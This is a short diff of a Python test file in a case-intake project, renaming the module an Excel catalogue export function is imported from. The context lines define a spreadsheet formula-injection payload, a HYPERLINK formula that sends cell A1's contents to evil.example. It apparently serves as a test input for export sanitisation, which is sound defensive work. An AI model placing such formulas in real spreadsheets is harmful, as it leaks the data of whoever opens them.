@@ -12,7 +12,7 @@ from intake.excel.catalogue_layout import SHEETS
 from intake.extensions import db
 from intake.matching_bridge import catalogue_version
 from intake.models import Case, Coach, WorkshopSeries
-from intake.operations.catalogue import export_catalogue
+from intake.operations.catalogue_files import export_catalogue
 
 BASE = "/coordinator/catalogue"
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")'
